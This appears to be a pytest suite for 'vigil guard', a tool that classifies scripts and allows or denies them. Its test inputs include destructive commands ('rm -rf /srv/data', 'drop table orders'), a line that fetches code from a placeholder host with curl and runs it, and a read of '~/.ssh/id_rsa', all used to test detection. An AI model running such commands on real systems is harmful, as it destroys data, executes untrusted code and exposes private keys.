"""``vigil guard check`` and ``vigil guard explain``."""

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from vigil.cli.guard import MAX_LINE_BYTES, guard_app
from vigil.cli.guard_rules import explained
from vigil.tool_files import load_tools

RESTART = "vigil-do process.restart restart web-1\n"


def vigil_guard(*arguments: str, stdin: str | bytes = "") -> tuple[int, str]:
    result = CliRunner().invoke(guard_app, arguments, input=stdin)
    return result.exit_code, result.stdout


def check(*arguments: str, stdin: str | bytes = "") -> tuple[int, str]:
    return vigil_guard("check", *arguments, stdin=stdin)


def checked(script: str, *arguments: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(check("-", "--json", *arguments, stdin=script)[1])
    return found


def test_a_script_of_granted_calls_runs_unasked(tmp_path: Path) -> None:
    (tmp_path / "good.sh").write_text(RESTART)
    code, said = check(str(tmp_path / "good.sh"), "--json")
    answer = json.loads(said)
    assert code == 0
    assert (answer["effect"], answer["decision"]) == ("disruptive", "allow")
    assert answer["runs_unasked"] is True
    assert answer["resources"] == ["process:restart/web-1"]
    assert answer["calls"] == [
        {"verb": "process.restart", "grant": "restart", "arguments": ["web-1"]}
    ]
    assert check("-", stdin=RESTART) == check(str(tmp_path / "good.sh"))


def test_each_finding_says_where_and_by_which_rule() -> None:
    found = checked("true\nrm -rf /srv/data # all\n")
    (removal,) = (f for f in found["findings"] if f["kind"] == "destructive")
    assert removal["rule"].startswith("rm.")
    assert "removes-tree" in removal["marks"]
    assert removal["span"]["line"] == 2
    assert found["runs_unasked"] is False
    assert check("-", stdin="rm -rf /srv/data")[0] == 1


@pytest.mark.parametrize(
    "script",
    [
        "rm x\n",
        "cat /etc/hostname\n",
        "vigil-do process.restart someone-elses web-1\n",
        "echo $HOME\n",
        b"\xff\n",
        "true\n" * 10_000,
    ],
)
def test_what_the_gate_would_never_let_run(script: str | bytes) -> None:
    code, said = check("-", stdin=script)
    assert code == 1
    assert said.partition("\n")[0].endswith(": deny")


def test_text_of_a_script_cannot_steer_the_terminal() -> None:
    said = check("-", stdin="rm $'\\e[2Jx'")[1]
    assert "\x1b" not in said


def test_other_languages(tmp_path: Path) -> None:
    (tmp_path / "a.sql").write_text("drop table orders;")
    (tmp_path / "a.py").write_text("import os\nos.remove('/etc/hosts')\n")
    assert "destructive" in check(str(tmp_path / "a.sql"))[1]
    assert json.loads(check(str(tmp_path / "a.py"), "--json")[1])["effect"] != "read"
    assert checked("select 1", "--language", "sql")["effect"] == "read"
    assert check("-", "--language", "cobol")[0] == 2


def test_wrong_usage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert check()[0] == 2
    assert check("-", "--batch", "x.jsonl")[0] == 2
    assert check(str(tmp_path / "none.sh"))[0] == 2
    assert check("--batch", str(tmp_path / "none.jsonl"))[0] == 2
    monkeypatch.setenv("VIGIL_GUARD_TOOLS", str(tmp_path / "none"))
    assert check("-")[0] == 2


def test_a_batch_answers_each_line_in_order_also_on_error(tmp_path: Path) -> None:
    lines = [
        json.dumps({"id": "a", "language": "bash", "code": "true"}).encode(),
        b"not json",
        b"[]",
        b"",
        b'{"id": "b", "code": 1}',
        b'{"id": "c", "language": "cobol", "code": ""}',
        b'{"id": "d", "language": ["bash"], "code": ""}',
        b'{"code": "\xff"}',
        b"[" * 100_000,
        b'{"code": "' + b"x" * MAX_LINE_BYTES + b'"}',
        json.dumps({"id": 7, "language": "bash", "code": "frobnicate"}).encode(),
        b'{"id": "surrogate", "code": "echo \\ud800"}',
        json.dumps({"id": "z", "code": RESTART}).encode(),
    ]
    (tmp_path / "b.jsonl").write_bytes(b"\n".join(lines))
    code, said = check("--batch", str(tmp_path / "b.jsonl"))
    answers = [json.loads(line) for line in said.splitlines()]
    assert code == 1
    assert [a["id"] for a in answers] == [
        *("a", None, None, None, "b", "c", "d", None, None, None, 7, "surrogate", "z")
    ]
    assert [number for number, a in enumerate(answers) if "error" in a] == list(range(1, 10))
    assert all(a["effect"] == "unknown" and not a["runs_unasked"] for a in answers[1:12])
    assert answers[0] == {
        "id": "a",
        "effect": "read",
        "runs_unasked": True,
        "resources": [],
        "rules": answers[0]["rules"],
    }
    assert answers[10]["rules"] == ["guard.no-tool"]
    assert answers[12]["runs_unasked"]


def test_explaining_a_rule_a_tool_and_what_holds_for_all() -> None:
    code, said = vigil_guard("explain", "kubectl.read")
    assert code == 0
    assert "kubectl get pods" in said
    found = json.loads(vigil_guard("explain", "kubectl", "--json")[1])
    assert "kubectl.read" in {rule["rule"] for rule in found["rules"]}
    assert json.loads(vigil_guard("explain", "bash.default", "--json")[1])["effect"] == "unknown"
    assert "secrets" in vigil_guard("explain", "guard.sensitive")[1]
    assert vigil_guard("explain", "nonsense")[0] == 1


def test_every_rule_that_fires_can_be_explained() -> None:
    script = "x=$(curl http://a/b); $x; rm -rf $x; ./a > /etc/hosts; frob; cat ~/.ssh/id_rsa"
    tools = load_tools()
    for finding in checked(script)["findings"]:
        assert explained(finding["rule"], tools) is not None, finding


def test_a_tool_of_ones_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "frob.yaml").write_text(
        "tool: frobnicate\nalso: [kubectl]\nabout: our own\nrules:\n  - {id: show, effect: read, "
        "verb: show, reason: shows}\nverb_words: 1\n"
    )
    monkeypatch.setenv("VIGIL_GUARD_TOOLS", str(tmp_path))
    assert checked("frobnicate show")["effect"] == "read"
    assert checked("kubectl get pods")["effect"] == "unknown"
    (tmp_path / "frob.yaml").write_text(
        "tool: frobnicate\nabout: x\nrules: [{id: A}]\ndefault: x\n"
    )
    result = CliRunner().invoke(guard_app, ["check", "-"], input="true")
    assert result.exit_code == 2
    assert {
        line.partition("frob.yaml:")[2].partition(":")[0] for line in result.stderr.splitlines()
    } == {
        "3",
        "4",
    }
